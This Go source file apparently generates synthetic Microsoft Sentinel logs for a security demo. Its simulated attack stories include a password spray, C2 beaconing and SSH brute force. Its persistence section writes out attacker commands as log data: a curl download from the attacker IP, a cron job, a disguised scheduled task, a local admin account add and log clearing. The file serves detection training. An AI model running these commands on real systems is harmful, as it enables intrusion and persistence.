package demo

import (
	"crypto/sha256"
	"fmt"
	"strings"
	"time"
)

var (
	users = []string{"megan.bowen", "adele.vance", "alex.wilber", "diego.siciliani", "grady.archie", "henrietta.mueller",
		"isaiah.langer", "johanna.lorenz", "joni.sherman", "lee.gu", "lidia.holloway", "lynne.robbins", "miriam.graham",
		"nestor.wilke", "patti.fernandez", "pradeep.gupta", "christie.cline", "allan.deyoung", "debra.berger", "irvin.sayers"}
	corpIPs = []string{"52.170.14.20", "52.170.14.21", "40.76.43.124", "13.107.6.152"}
	apps    = []string{"Office 365 Exchange Online", "Microsoft Teams", "Azure Portal", "Office 365 SharePoint Online", "OfficeHome"}
	hosts   = []struct{ name, ip, public, os string }{
		{BeaconHost, BeaconIP, BeaconPublic, "Linux"},
		{BruteHost, BruteHostIP, "", "Linux"},
		{"win-fs01", "10.0.3.10", "", "Windows"},
		{"win-dc01", "10.0.3.4", "", "Windows"},
		{"win-app03", "10.0.3.21", "20.55.10.9", "Windows"},
	}
	cities = []map[string]any{
		{"city": "Redmond", "state": "Washington", "countryOrRegion": "US", "geoCoordinates": map[string]any{"latitude": 47.67, "longitude": -122.12}},
		{"city": "Seattle", "state": "Washington", "countryOrRegion": "US", "geoCoordinates": map[string]any{"latitude": 47.61, "longitude": -122.33}},
	}
)

func upn(u string) string { return u + "@contoso.com" }

// objectID is a user's stable Entra object id (a sign-in's UserId). The
// generator's own id is drawn anyway, so every other value stays as it was.
func objectID(user, _ string) string {
	s := sha256.Sum256([]byte("object id|" + strings.ToLower(user)))
	n := func(b []byte) uint64 {
		var v uint64
		for _, x := range b {
			v = v<<8 | uint64(x)
		}
		return v
	}
	return fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", n(s[0:4]), n(s[4:6]), n(s[6:8])&0xfff, n(s[8:10])&0xfff, n(s[10:16]))
}

// deviceID is a host's stable MDE device id (40 hex digits).
func deviceID(host string) string {
	sum := sha256.Sum256([]byte("device|" + host))
	return fmt.Sprintf("%x", sum[:20])
}

// hostGUID is a host's stable id of one kind (its agent, its VM). Draws
// from the generator are passed in and dropped, so no other value moves.
func hostGUID(kind, host string, _ ...string) string {
	return objectID(kind+"|"+host, "")
}

// sid is a contoso.local account's stable SID.
func sid(user string) string {
	sum := sha256.Sum256([]byte("sid|" + strings.ToLower(user)))
	return fmt.Sprintf("S-1-5-21-1004336348-1177238915-682003330-%d", 1100+(int(sum[0])<<8|int(sum[1]))%8000)
}

func (g *gen) signin(at time.Duration, user, ip, app, result, desc string, loc map[string]any) {
	g.add("SigninLogs", map[string]any{
		"TimeGenerated": g.ago(at), "CreatedDateTime": g.ago(at), "OperationName": "Sign-in activity", "Category": "SignInLogs",
		"UserPrincipalName": user, "UserDisplayName": displayName(user), "UserId": objectID(user, g.id()), "Identity": displayName(user),
		"AppDisplayName": app, "ResourceDisplayName": app, "IPAddress": ip, "ResultType": result, "ResultDescription": desc,
		"ClientAppUsed": "Browser", "UserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
		"ConditionalAccessStatus": "notApplied", "RiskLevelDuringSignIn": "none", "IsInteractive": true, "AADTenantId": TenantID,
		"LocationDetails": loc, "DeviceDetail": map[string]any{"operatingSystem": "Windows 10", "browser": "Chrome 131.0.0"},
		"CorrelationId": g.id(), "Id": g.id(), "UserType": "Member", "AuthenticationRequirement": "singleFactorAuthentication",
	})
}

func displayName(u string) string {
	name := strings.SplitN(u, "@", 2)[0]
	parts := strings.Split(name, ".")
	for i, p := range parts {
		if p != "" {
			parts[i] = strings.ToUpper(p[:1]) + p[1:]
		}
	}
	return strings.Join(parts, " ")
}

func (g *gen) heartbeats(name, ip, public, os string, every time.Duration) {
	computerIP := public
	if computerIP == "" {
		computerIP = ip
	}
	for at := time.Duration(0); at < 47*time.Hour; at += every {
		g.add("Heartbeat", map[string]any{
			"TimeGenerated": g.ago(at), "Computer": name, "ComputerIP": computerIP, "ComputerPrivateIPs": []string{ip},
			"OSType": os, "OSName": map[string]string{"Linux": "Ubuntu", "Windows": "Windows Server 2022 Datacenter"}[os],
			"OSMajorVersion": map[string]string{"Linux": "22", "Windows": "10"}[os], "OSMinorVersion": map[string]string{"Linux": "04", "Windows": "0"}[os],
			"ComputerEnvironment": "Azure", "Category": "Azure Monitor Agent", "Version": "1.33.2", "Solutions": "security",
			"ResourceId":     fmt.Sprintf("/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Compute/virtualMachines/%s", Subscription, ResourceGroup, name),
			"SubscriptionId": Subscription, "ResourceGroup": ResourceGroup, "ResourceProvider": "Microsoft.Compute", "ResourceType": "virtualMachines",
			"VMUUID": hostGUID("vm", name), "RemoteIPCountry": "United States",
		})
	}
}

// background is ordinary activity: sign-ins from the office, logons,
// heartbeats, DNS, flows, firewall traffic.
func (g *gen) background(scale int) {
	for i := 0; i < 4200*scale; i++ {
		u := users[g.rnd.IntN(len(users))]
		result, desc := "0", ""
		if g.rnd.IntN(25) == 0 {
			result, desc = "50126", "Invalid username or password or Invalid on-premise username or password."
		}
		g.signin(g.between(0, 47*time.Hour), upn(u), corpIPs[g.rnd.IntN(len(corpIPs))], apps[g.rnd.IntN(len(apps))], result, desc, cities[g.rnd.IntN(len(cities))])
	}
	for i := 0; i < 600*scale; i++ {
		u := users[g.rnd.IntN(len(users))]
		ops := []string{"Microsoft.Compute/virtualMachines/read", "Microsoft.Storage/storageAccounts/listKeys/action", "Microsoft.Network/networkSecurityGroups/write"}
		op := ops[g.rnd.IntN(len(ops))]
		g.add("AzureActivity", map[string]any{
			"TimeGenerated": g.ago(g.between(0, 47*time.Hour)), "Caller": upn(u), "CallerIpAddress": corpIPs[g.rnd.IntN(len(corpIPs))],
			"OperationNameValue": op, "OperationName": op, "ResourceProviderValue": strings.Split(op, "/")[0], "ResourceGroup": ResourceGroup,
			"CategoryValue": "Administrative", "ActivityStatusValue": "Success", "Level": "Informational", "SubscriptionId": Subscription,
			"_ResourceId": fmt.Sprintf("/subscriptions/%s/resourceGroups/%s", Subscription, ResourceGroup), "CorrelationId": g.id(),
		})
	}
	for i := 0; i < 1200*scale; i++ {
		u := users[g.rnd.IntN(len(users))]
		wl := []string{"Exchange", "SharePoint", "OneDrive", "MicrosoftTeams"}[g.rnd.IntN(4)]
		g.add("OfficeActivity", map[string]any{
			"TimeGenerated": g.ago(g.between(0, 47*time.Hour)), "UserId": upn(u), "Operation": map[string]string{"Exchange": "MailItemsAccessed", "SharePoint": "FileAccessed", "OneDrive": "FileModified", "MicrosoftTeams": "MessageSent"}[wl],
			"OfficeWorkload": wl, "RecordType": wl, "ResultStatus": "Succeeded", "ClientIP": corpIPs[g.rnd.IntN(len(corpIPs))] + ":" + fmt.Sprint(40000+g.rnd.IntN(20000)),
			"OrganizationId": TenantID, "OfficeObjectId": g.id(),
		})
	}
	for _, h := range hosts {
		g.heartbeats(h.name, h.ip, h.public, h.os, time.Hour)
		g.add("VMComputer", map[string]any{
			"TimeGenerated": g.ago(2 * time.Hour), "Computer": h.name, "HostName": h.name, "Ipv4Addresses": []string{h.ip}, "Ipv6Addresses": []string{},
			"OperatingSystemFamily": h.os, "OperatingSystemFullName": map[string]string{"Linux": "Ubuntu 22.04.4 LTS", "Windows": "Windows Server 2022 Datacenter"}[h.os],
			"AgentId": hostGUID("agent", h.name, g.id()), "AzureVmId": hostGUID("vm", h.name, g.id()), "AzureSubscriptionId": Subscription, "AzureResourceGroup": ResourceGroup,
			"HostingProvider": "Microsoft Azure", "VirtualMachineType": "Standard_D2s_v5", "AzureLocation": "eastus",
			"_ResourceId": fmt.Sprintf("/subscriptions/%s/resourcegroups/%s/providers/microsoft.compute/virtualmachines/%s", Subscription, ResourceGroup, h.name),
		})
		g.add("AzureNetworkAnalytics_CL", map[string]any{
			"TimeGenerated": g.ago(3 * time.Hour), "SubType_s": "Topology", "ResourceType": "NetworkInterface",
			"VirtualMachine_s": Subscription + "/" + ResourceGroup + "/" + h.name, "PrivateIPAddresses_s": h.ip, "PublicIPAddresses_s": h.public,
			"Subnet_s": Subscription + "/" + ResourceGroup + "/prod-vnet/app-subnet", "Region_s": "eastus", "Name_s": h.name + "-nic",
		})
		g.add("DeviceInfo", map[string]any{
			"TimeGenerated": g.ago(90 * time.Minute), "DeviceId": deviceID(h.name), "DeviceName": h.name + ".contoso.local",
			"PublicIP": h.public, "OSPlatform": map[string]string{"Linux": "Linux", "Windows": "WindowsServer2022"}[h.os], "IsAzureADJoined": h.os == "Windows",
			"MachineGroup": "Production", "OnboardingStatus": "Onboarded",
		})
		for at := time.Duration(0); at < 47*time.Hour; at += 6 * time.Hour {
			g.add("DeviceNetworkInfo", map[string]any{
				"TimeGenerated": g.ago(at), "DeviceId": deviceID(h.name), "DeviceName": h.name + ".contoso.local",
				"NetworkAdapterName": "eth0", "MacAddress": "00-0D-3A-12-34-" + fmt.Sprintf("%02X", len(h.name)),
				"IPAddresses":       []map[string]any{{"IPAddress": h.ip, "SubnetPrefix": 24, "AddressType": "Private"}},
				"ConnectedNetworks": []map[string]any{{"Name": "contoso.local", "Category": "Domain"}},
			})
		}
	}
	for i := 0; i < 1800*scale; i++ {
		h := hosts[2+g.rnd.IntN(3)]
		u := users[g.rnd.IntN(len(users))]
		g.add("SecurityEvent", map[string]any{
			"TimeGenerated": g.ago(g.between(0, 47*time.Hour)), "Computer": h.name + ".contoso.local", "EventID": 4624, "Activity": "4624 - An account was successfully logged on.",
			"Account": `CONTOSO\` + u, "TargetUserName": u, "TargetDomainName": "CONTOSO", "TargetUserSid": sid(u), "LogonType": 3, "LogonTypeName": "3 - Network",
			"IpAddress": "10.0.3." + fmt.Sprint(30+g.rnd.IntN(50)), "AuthenticationPackageName": "Kerberos", "Channel": "Security",
		})
	}
	for i := 0; i < 700*scale; i++ {
		h := hosts[g.rnd.IntN(2)]
		src := "10.0.3." + fmt.Sprint(30+g.rnd.IntN(50))
		g.add("Syslog", map[string]any{
			"TimeGenerated": g.ago(g.between(0, 47*time.Hour)), "Computer": h.name, "HostIP": h.ip, "Facility": "authpriv", "SeverityLevel": "info",
			"ProcessName": "sshd", "ProcessID": 1000 + g.rnd.IntN(30000),
			"SyslogMessage": fmt.Sprintf("Accepted publickey for deploy from %s port %d ssh2: RSA SHA256:q5mZ1xw", src, 40000+g.rnd.IntN(20000)),
		})
	}
	for i := 0; i < 900*scale; i++ {
		h := hosts[g.rnd.IntN(len(hosts))]
		name := []string{"login.microsoftonline.com", "graph.microsoft.com", "archive.ubuntu.com", "contoso.sharepoint.com"}[g.rnd.IntN(4)]
		g.add("DnsEvents", map[string]any{
			"TimeGenerated": g.ago(g.between(0, 47*time.Hour)), "Computer": "win-dc01.contoso.local", "SubType": "LookupQuery", "ClientIP": h.ip,
			"Name": name, "QueryType": "A", "ResultCode": 0, "IPAddresses": "13.107.42.14", "EventId": 256,
		})
	}
	for i := 0; i < 600*scale; i++ {
		h := hosts[g.rnd.IntN(len(hosts))]
		at := g.between(0, 47*time.Hour)
		g.flow(at, h.name, h.ip, "13.107.42.14", "O", 443, "https", 1+g.rnd.IntN(5))
	}
	for i := 0; i < 500*scale; i++ {
		h := hosts[g.rnd.IntN(len(hosts))]
		g.firewall(g.between(0, 47*time.Hour), h.ip, "13.107.42.14", 443, "allow", "")
	}
	for i := 0; i < 300*scale; i++ {
		h := hosts[g.rnd.IntN(len(hosts))]
		g.mdeConnection(g.between(0, 47*time.Hour), h.name, h.ip, "13.107.42.14", "login.microsoftonline.com", `C:\Program Files\Microsoft\Edge\Application`, "msedge.exe")
	}
	for i := 0; i < 200; i++ {
		g.add("ThreatIntelIndicators", map[string]any{
			"TimeGenerated": g.ago(g.between(0, 47*time.Hour)), "Id": "indicator--" + g.id(), "ObservableKey": "ipv4-addr:value",
			"ObservableValue": fmt.Sprintf("185.%d.%d.%d", 100+g.rnd.IntN(100), g.rnd.IntN(255), 1+g.rnd.IntN(254)),
			"Confidence":      50 + g.rnd.IntN(50), "IsActive": true, "SourceSystem": "Microsoft Defender Threat Intelligence",
			"Pattern": "[ipv4-addr:value = 'x']", "Tags": "botnet",
		})
	}
}

func (g *gen) flow(at time.Duration, vm, vmIP, remote, dir string, port int, l7 string, flows int) {
	src, dst := vmIP, remote
	if dir == "I" {
		src, dst = remote, vmIP
	}
	allowedOut, allowedIn := 0, 0
	if dir == "O" {
		allowedOut = flows
	} else {
		allowedIn = flows
	}
	g.add("AzureNetworkAnalytics_CL", map[string]any{
		"TimeGenerated": g.ago(at - 10*time.Minute), "SubType_s": "FlowLog", "FlowType_s": "ExternalPublic",
		"FlowStartTime_t": g.ago(at), "FlowEndTime_t": g.ago(at - 5*time.Minute), "FlowIntervalEndTime_t": g.ago(at - 10*time.Minute),
		"VM_s": ResourceGroup + "/" + vm, "VMIP_s": vmIP, "SrcIP_s": src, "DestIP_s": dst, "PublicIPs_s": remote + "|" + fmt.Sprint(flows) + "|0|0|0|0|0",
		"FlowDirection_s": dir, "L4Protocol_s": "T", "L7Protocol_s": l7, "DestPort_d": port,
		"AllowedOutFlows_d": allowedOut, "AllowedInFlows_d": allowedIn, "DeniedInFlows_d": 0, "DeniedOutFlows_d": 0,
		"Region_s": "eastus", "AzureRegion_s": "eastus", "NSGRule_s": "allow-https-out",
	})
}

func (g *gen) firewall(at time.Duration, src, dst string, port int, action, url string) {
	g.add("CommonSecurityLog", map[string]any{
		"TimeGenerated": g.ago(at), "DeviceVendor": "Palo Alto Networks", "DeviceProduct": "PAN-OS", "DeviceVersion": "11.1",
		"Activity": "TRAFFIC", "DeviceAction": action, "SourceIP": src, "SourcePort": 40000 + g.rnd.IntN(20000), "DestinationIP": dst,
		"DestinationPort": port, "Protocol": "tcp", "ApplicationProtocol": "ssl", "RequestURL": url, "Computer": "pa-fw01", "LogSeverity": "1",
	})
}

func (g *gen) mdeConnection(at time.Duration, host, local, remote, url, folder, file string) {
	g.add("DeviceNetworkEvents", map[string]any{
		"TimeGenerated": g.ago(at), "DeviceId": deviceID(host), "DeviceName": host + ".contoso.local",
		"ActionType": "ConnectionSuccess", "LocalIP": local, "LocalPort": 40000 + g.rnd.IntN(20000), "RemoteIP": remote, "RemotePort": 443,
		"RemoteUrl": url, "Protocol": "Tcp", "InitiatingProcessAccountName": "www-data", "InitiatingProcessFolderPath": folder,
		"InitiatingProcessFileName": file, "InitiatingProcessSHA256": fmt.Sprintf("%064x", len(file)*7727),
	})
}

// alert writes a SecurityAlert with the Entities JSON ($id/$ref) Sentinel produces.
func (g *gen) alert(at time.Duration, name, severity, desc, tactics, techniques, compromised string, entities []map[string]any, ext map[string]string) {
	for i, e := range entities {
		e["$id"] = fmt.Sprint(i + 2)
	}
	g.add("SecurityAlert", map[string]any{
		"TimeGenerated": g.ago(at), "StartTime": g.ago(at + 30*time.Minute), "EndTime": g.ago(at), "ProcessingEndTime": g.ago(at),
		"SystemAlertId": g.id(), "AlertName": name, "DisplayName": name, "AlertSeverity": severity, "Status": "New",
		"Description": desc, "RemediationSteps": "Investigate the entities; contain the host or reset the account.", "ProviderName": "ASI Scheduled Alerts",
		"VendorName": "Microsoft", "ProductName": "Azure Sentinel", "ProductComponentName": "Scheduled Alerts", "AlertType": strings.ReplaceAll(name, " ", ""),
		"ConfidenceLevel": "High", "Tactics": tactics, "Techniques": techniques, "CompromisedEntity": compromised,
		"Entities": mustJSON(entities), "ExtendedProperties": mustJSON(ext), "IsIncident": false,
	})
}

// spray: a password spray from SprayIP against every user succeeds for
// SprayVictim, who then gets a mail-forwarding inbox rule.
func (g *gen) spray() {
	start := 30 * time.Hour
	ru := map[string]any{"city": "Moscow", "state": "Moscow", "countryOrRegion": "RU", "geoCoordinates": map[string]any{"latitude": 55.75, "longitude": 37.62}}
	for round := 0; round < 3; round++ {
		for i, u := range users {
			at := start - time.Duration(round)*20*time.Minute - time.Duration(i)*20*time.Second
			g.signin(at, upn(u), SprayIP, "Office 365 Exchange Online", "50126", "Invalid username or password or Invalid on-premise username or password.", ru)
		}
	}
	success := start - 61*time.Minute
	g.signin(success, SprayVictim, SprayIP, "Office 365 Exchange Online", "0", "", ru)
	g.signin(success-2*time.Minute, SprayVictim, SprayIP, "OfficeHome", "0", "", ru)
	rule := mustJSON([]map[string]string{{"Name": "Name", "Value": "."}, {"Name": "ForwardTo", "Value": "recovery.desk@proton-mail.example"}, {"Name": "DeleteMessage", "Value": "True"}})
	g.add("OfficeActivity", map[string]any{
		"TimeGenerated": g.ago(success - 10*time.Minute), "UserId": SprayVictim, "Operation": "New-InboxRule", "OfficeWorkload": "Exchange",
		"RecordType": "ExchangeAdmin", "ResultStatus": "True", "ClientIP": "[" + "::ffff:" + SprayIP + "]:51544", "OrganizationId": TenantID,
		"Parameters": rule, "OfficeObjectId": SprayVictim + `\.`,
	})
	for i := 0; i < 12; i++ {
		g.add("OfficeActivity", map[string]any{
			"TimeGenerated": g.ago(success - 12*time.Minute - time.Duration(i)*time.Minute), "UserId": SprayVictim, "Operation": "MailItemsAccessed",
			"OfficeWorkload": "Exchange", "RecordType": "ExchangeItemAggregated", "ResultStatus": "Succeeded", "ClientIP": SprayIP + ":" + fmt.Sprint(51000+i),
			"OrganizationId": TenantID, "OfficeObjectId": g.id(),
		})
	}
	// With the mailbox comes the Azure subscription: the storage keys are read from the same address.
	g.add("AzureActivity", map[string]any{
		"TimeGenerated": g.ago(success - 30*time.Minute), "Caller": SprayVictim, "CallerIpAddress": SprayIP,
		"OperationNameValue": "Microsoft.Storage/storageAccounts/listKeys/action", "OperationName": "List Storage Account Keys",
		"ResourceProviderValue": "Microsoft.Storage", "ResourceGroup": ResourceGroup, "CategoryValue": "Administrative",
		"ActivityStatusValue": "Success", "Level": "Informational", "SubscriptionId": Subscription, "CorrelationId": g.id(),
		"_ResourceId": fmt.Sprintf("/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Storage/storageAccounts/prodbackups01", Subscription, ResourceGroup),
	})
	g.alert(success-15*time.Minute, "Password spray attack followed by successful sign-in", "High",
		"A password spray from one IP address targeted 20 accounts and then signed in successfully as one of them.",
		"CredentialAccess,InitialAccess", "T1110,T1078", SprayVictim,
		[]map[string]any{{"Type": "ip", "Address": SprayIP}, {"Type": "account", "Name": "megan.bowen", "UPNSuffix": "contoso.com", "AadTenantId": TenantID}},
		map[string]string{"Source IPs": SprayIP, "Failed attempts": "60", "Targeted accounts": "20"})
	g.alert(success-25*time.Minute, "Suspicious inbox forwarding rule", "Medium",
		"A new inbox rule forwards mail to an external address and deletes it.",
		"Collection,Exfiltration", "T1114", SprayVictim,
		[]map[string]any{{"Type": "account", "Name": "megan.bowen", "UPNSuffix": "contoso.com"}, {"Type": "ip", "Address": SprayIP}, {"Type": "mailbox", "MailboxPrimaryAddress": SprayVictim}},
		map[string]string{"Rule name": ".", "Forward to": "recovery.desk@proton-mail.example"})
}

// beacon: web-vm-01 (10.0.1.4) beacons every 10 minutes to C2IP, which TI flags.
func (g *gen) beacon() {
	for at := 20 * time.Hour; at > 0; at -= 10 * time.Minute {
		g.flow(at, BeaconHost, BeaconIP, C2IP, "O", 443, "https", 1)
		g.firewall(at, BeaconIP, C2IP, 443, "allow", "https://"+C2Domain+"/api/v2/check")
		g.mdeConnection(at, BeaconHost, BeaconIP, C2IP, C2Domain, "/tmp/.cache", "kworkerd")
		g.add("DnsEvents", map[string]any{
			"TimeGenerated": g.ago(at + time.Second), "Computer": "win-dc01.contoso.local", "SubType": "LookupQuery", "ClientIP": BeaconIP,
			"Name": C2Domain, "QueryType": "A", "ResultCode": 0, "IPAddresses": C2IP, "EventId": 256,
		})
	}
	g.add("ThreatIntelIndicators", map[string]any{
		"TimeGenerated": g.ago(40 * time.Hour), "Id": "indicator--c2-" + C2IP, "ObservableKey": "ipv4-addr:value", "ObservableValue": C2IP,
		"Confidence": 90, "IsActive": true, "SourceSystem": "Microsoft Defender Threat Intelligence", "Pattern": "[ipv4-addr:value = '" + C2IP + "']",
		"Tags": "c2,cobaltstrike", "Data": map[string]any{"labels": []string{"malicious-activity", "c2"}, "description": "Cobalt Strike team server"},
	})
	// Workspaces migrating to the new TI schema still hold the legacy table.
	g.add("ThreatIntelligenceIndicator", map[string]any{
		"TimeGenerated": g.ago(40 * time.Hour), "IndicatorId": "c2-" + C2IP, "NetworkIP": C2IP, "ConfidenceScore": 85, "Active": true,
		"Action": "alert", "ThreatType": "C2", "ThreatSeverity": 4, "Description": "Cobalt Strike team server", "Tags": `["c2","cobaltstrike"]`,
		"SourceSystem": "Microsoft Defender Threat Intelligence", "ExpirationDateTime": g.ago(-60 * 24 * time.Hour),
		"ExternalIndicatorId": "indicator--c2-" + C2IP,
	})
	g.alert(19*time.Hour, "Communication with a known command-and-control address", "High",
		"A host communicated repeatedly with an IP address listed in threat intelligence as a C2 server.",
		"CommandAndControl", "T1071,T1573", BeaconHost,
		[]map[string]any{{"Type": "ip", "Address": C2IP}, {"Type": "host", "HostName": BeaconHost, "DnsDomain": "contoso.local", "OSFamily": "Linux"}, {"Type": "ip", "Address": BeaconIP}, {"Type": "dns", "DomainName": C2Domain}},
		map[string]string{"Destination IPs": C2IP, "Source IPs": BeaconIP, "Compromised Host": BeaconHost})
}

// bruteForce: SSH password guessing from BruteIP against linux-db-02 gets
// in as dbadmin; the same IP also tries Windows logons on win-fs01.
func (g *gen) bruteForce() {
	start := 12 * time.Hour
	names := []string{"root", "admin", "ubuntu", "oracle", "postgres", BruteAccount}
	for i := 0; i < 180; i++ {
		at := start - time.Duration(i)*15*time.Second
		u := names[i%len(names)]
		msg := fmt.Sprintf("Failed password for %s from %s port %d ssh2", u, BruteIP, 30000+i)
		if u != "root" && u != BruteAccount {
			msg = fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", u, BruteIP, 30000+i)
		}
		g.add("Syslog", map[string]any{"TimeGenerated": g.ago(at), "Computer": BruteHost, "HostIP": BruteHostIP, "Facility": "authpriv",
			"SeverityLevel": "info", "ProcessName": "sshd", "ProcessID": 20000 + i, "SyslogMessage": msg})
	}
	in := start - 46*time.Minute
	for i := 0; i < 2; i++ {
		g.add("Syslog", map[string]any{"TimeGenerated": g.ago(in - time.Duration(i)*time.Hour), "Computer": BruteHost, "HostIP": BruteHostIP, "Facility": "authpriv",
			"SeverityLevel": "info", "ProcessName": "sshd", "ProcessID": 31337 + i,
			"SyslogMessage": fmt.Sprintf("Accepted password for %s from %s port %d ssh2", BruteAccount, BruteIP, 41234+i)})
	}
	for i := 0; i < 40; i++ {
		g.add("SecurityEvent", map[string]any{
			"TimeGenerated": g.ago(start - time.Duration(i)*20*time.Second), "Computer": "win-fs01.contoso.local", "EventID": 4625,
			"Activity": "4625 - An account failed to log on.", "Account": `CONTOSO\administrator`, "TargetUserName": "administrator", "TargetDomainName": "CONTOSO",
			"LogonType": 3, "LogonTypeName": "3 - Network", "IpAddress": BruteIP, "Status": "0xc000006d", "SubStatus": "0xc000006a",
			"AuthenticationPackageName": "NTLM", "WorkstationName": "kali", "Channel": "Security",
		})
	}
	g.alert(in-5*time.Minute, "SSH brute force succeeded", "High",
		"Many failed SSH logons from one IP address were followed by a successful logon.",
		"CredentialAccess,InitialAccess", "T1110.001", BruteHost,
		[]map[string]any{{"Type": "ip", "Address": BruteIP}, {"Type": "host", "HostName": BruteHost, "OSFamily": "Linux"}, {"Type": "account", "Name": BruteAccount, "Host": map[string]any{"$ref": "3"}}},
		map[string]string{"Source IPs": BruteIP, "Compromised Host": BruteHost, "Failed logons": "180"})
	row := mustJSON(map[string]any{"TimeGenerated": g.ago(in), "Computer": BruteHost, "SourceIP": BruteIP, "Account": BruteAccount,
		"__entityMapping": map[string]string{BruteIP: "IP", BruteHost: "Host"}})
	g.add("HuntingBookmark", map[string]any{
		"TimeGenerated": g.ago(in - time.Hour), "CreatedTime": g.ago(in - time.Hour), "LastUpdatedTime": g.ago(in - time.Hour), "EventTime": g.ago(in),
		"BookmarkId": g.id(), "BookmarkName": "dbadmin SSH logon from brute-force source", "BookmarkType": "Bookmark",
		"CreatedBy": "adele.vance@contoso.com", "UpdatedBy": "adele.vance@contoso.com", "Notes": "Successful logon right after the spray of failures.",
		"Tags": "ssh,bruteforce", "QueryText": "Syslog | where SyslogMessage has '" + BruteIP + "'", "QueryResultRow": row, "SoftDeleted": false,
	})
}

// persistence: what the intruders did once in. On linux-db-02, dbadmin
// downloads a script (Sysmon for Linux process creation), schedules it
// with cron and adds a local user; the kernel logs a critical audit
// message. On win-fs01, megan.bowen's session creates a scheduled task
// with schtasks, adds a local account to Administrators and clears the
// Security log.
func (g *gen) persistence() {
	linux := 12*time.Hour - 50*time.Minute
	syslog := func(at time.Duration, process, facility, severity, msg string) {
		g.add("Syslog", map[string]any{"TimeGenerated": g.ago(at), "Computer": BruteHost, "HostIP": BruteHostIP, "Facility": facility,
			"SeverityLevel": severity, "ProcessName": process, "ProcessID": 4000 + g.rnd.IntN(4000), "SyslogMessage": msg})
	}
	sysmon := `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>` +
		`<Computer>` + BruteHost + `</Computer></System><EventData><Data Name="RuleName">-</Data><Data Name="ProcessId">%d</Data>` +
		`<Data Name="Image">%s</Data><Data Name="CommandLine">%s</Data><Data Name="CurrentDirectory">/home/dbadmin</Data>` +
		`<Data Name="User">dbadmin</Data><Data Name="ParentImage">/usr/bin/bash</Data></EventData></Event>`
	syslog(linux, "sysmon", "user", "info", fmt.Sprintf(sysmon, 7311, "/usr/bin/curl", "curl -s -o /tmp/.x/update.sh http://"+BruteIP+"/update.sh"))
	syslog(linux-time.Minute, "sysmon", "user", "info", fmt.Sprintf(sysmon, 7320, "/usr/bin/chmod", "chmod +x /tmp/.x/update.sh"))
	syslog(linux-2*time.Minute, "crontab", "cron", "info", "(dbadmin) REPLACE (dbadmin)")
	for i := 0; i < 3; i++ {
		syslog(linux-time.Duration(10+i*15)*time.Minute, "CRON", "cron", "info", "(dbadmin) CMD (/tmp/.x/update.sh >/dev/null 2>&1)")
	}
	syslog(linux-3*time.Minute, "useradd", "authpriv", "info", "new user: name=svc-backup, UID=1001, GID=1001, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/0")
	syslog(linux-4*time.Minute, "passwd", "authpriv", "notice", "pam_unix(passwd:chauthtok): password changed for svc-backup")
	syslog(linux-5*time.Minute, "kernel", "kern", "crit", "audit: audit_backlog=8193 > audit_backlog_limit=8192")

	win := 30*time.Hour - 61*time.Minute - 40*time.Minute
	event := func(at time.Duration, id int, activity string, extra map[string]any) {
		row := map[string]any{"TimeGenerated": g.ago(at), "Computer": "win-fs01.contoso.local", "EventID": id, "Activity": activity,
			"Channel": "Security", "SubjectUserName": "megan.bowen", "SubjectDomainName": "CONTOSO", "Account": `CONTOSO\megan.bowen`}
		for k, v := range extra {
			row[k] = v
		}
		g.add("SecurityEvent", row)
	}
	event(win, 4688, "4688 - A new process has been created.", map[string]any{"NewProcessName": `C:\Windows\System32\schtasks.exe`,
		"CommandLine":       `schtasks /create /tn "OneDrive Updater" /tr C:\Users\megan.bowen\AppData\Local\Temp\odupd.exe /sc minute /mo 30`,
		"ParentProcessName": `C:\Windows\System32\cmd.exe`, "NewProcessId": "0x1a2c", "ProcessId": "0x17f0", "TokenElevationType": "%%1937"})
	event(win-time.Minute, 4698, "4698 - A scheduled task was created.", map[string]any{
		"EventData": `<EventData><Data Name="TaskName">\OneDrive Updater</Data><Data Name="TaskContent">C:\Users\megan.bowen\AppData\Local\Temp\odupd.exe</Data></EventData>`})
	event(win-2*time.Minute, 4688, "4688 - A new process has been created.", map[string]any{"NewProcessName": `C:\Windows\System32\net.exe`,
		"CommandLine": `net user helpdesk2 /add`, "ParentProcessName": `C:\Windows\System32\cmd.exe`, "NewProcessId": "0x1b04", "ProcessId": "0x17f0"})
	event(win-3*time.Minute, 4720, "4720 - A user account was created.", map[string]any{"TargetUserName": "helpdesk2", "TargetDomainName": "WIN-FS01"})
	event(win-4*time.Minute, 4732, "4732 - A member was added to a security-enabled local group.", map[string]any{"TargetUserName": "Administrators",
		"TargetDomainName": "Builtin", "MemberName": "-", "TargetAccount": `Builtin\Administrators`})
	event(win-6*time.Minute, 1102, "1102 - The audit log was cleared.", nil)
}

// directory is the UEBA IdentityInfo table: one record per person a day,
// tying each UPN to its object id, SID and on-premises account; a
// namesake in fabrikam.com makes the bare name "alex.wilber" ambiguous.
// Nothing here draws from the generator, so no other row changes.
func (g *gen) directory() {
	person := func(at time.Duration, upnName, domain, sidValue string) {
		user := strings.SplitN(upnName, "@", 2)[0]
		g.add("IdentityInfo", map[string]any{
			"TimeGenerated": g.ago(at), "AccountUPN": upnName, "AccountObjectId": objectID(upnName, ""), "AccountSID": sidValue,
			"AccountName": user, "SAMAccountName": user, "AccountDomain": domain, "AccountDisplayName": displayName(upnName),
			"AccountTenantId": TenantID, "MailAddress": upnName, "UserType": "Member", "IsAccountEnabled": true, "SourceSystem": "AzureAD",
		})
	}
	for day := 0; day < 2; day++ {
		at := time.Duration(day)*24*time.Hour + time.Hour
		for _, u := range users {
			person(at, upn(u), "contoso.local", sid(u))
		}
		person(at, "alex.wilber@fabrikam.com", "fabrikam.local", "S-1-5-21-2000000000-2000000000-2000000000-1200")
	}
}

// logonTables are the newer logon tables' part of the stories: the spray's
// stolen token refreshing from the spray IP (AADNonInteractiveUserSignInLogs),
// Megan Bowen's Kerberos logons from win-fs01 to the domain controller and
// the brute-force IP's NTLM failures (IdentityLogonEvents), dbadmin's SSH
// logon on linux-db-02 and the Windows failures (DeviceLogonEvents). They
// draw nothing from the generator, so no other row changes.
func (g *gen) logonTables() {
